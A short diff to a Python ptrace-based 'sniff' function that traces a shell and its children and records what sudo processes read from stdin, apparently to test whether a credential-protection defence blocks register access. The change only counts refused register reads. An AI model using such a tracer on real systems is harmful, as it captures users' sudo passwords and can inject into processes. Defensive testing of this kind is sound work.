@@ -223,7 +223,7 @@ def sniff(shell, outfile, gofile=None):
     ptrace(PTRACE_SYSCALL, shell)
     if gofile:  # the shell may go on: it is traced, children included
         open(gofile, "w").close()
-    captured, in_syscall, denied, seen = b"", {}, 0, {}
+    captured, in_syscall, denied, seen, regs_denied = b"", {}, 0, {}, 0
     read_by = set()  # sudo processes that read their stdin
     regs = user_regs()
     while True:
@@ -239,7 +239,12 @@ def sniff(shell, outfile, gofile=None):
         if os.WIFSTOPPED(status):
             stop = os.WSTOPSIG(status)
             if stop == (signal.SIGTRAP | 0x80):
-                libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs))
+                if libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs)) < 0:
+                    # registers refused (a credential holder): it learns
+                    # nothing of this stop, and cannot inject either
+                    regs_denied += 1
+                    ptrace(PTRACE_SYSCALL, pid, 0, 0)
+                    continue
                 entering = not in_syscall.get(pid, False)
                 in_syscall[pid] = entering
                 if entering and pid in read_by and \
@@ -271,7 +276,8 @@ def sniff(shell, outfile, gofile=None):
     with open(outfile, "wb") as f:
         f.write(captured)
     reads = ",".join(f"{c}:{n}" for c, n in sorted(seen.items()))
-    print(f"captured={len(captured)} denied={denied} stdin-reads={reads}")
+    print(f"captured={len(captured)} denied={denied} regs-denied={regs_denied} "
+          f"stdin-reads={reads}")
     return 0
 
 
